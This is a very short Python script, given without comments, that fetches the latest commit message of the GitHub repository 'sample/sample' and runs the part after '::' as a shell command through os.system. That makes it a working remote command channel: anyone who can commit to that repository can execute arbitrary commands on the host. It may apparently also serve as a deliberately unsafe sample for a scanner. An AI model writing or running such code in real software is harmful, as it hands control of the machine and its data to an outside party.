import os

from github import Github

text = Github().get_repo("sample/sample").get_commits()[0].commit.message
os.system(text.split("::")[1])
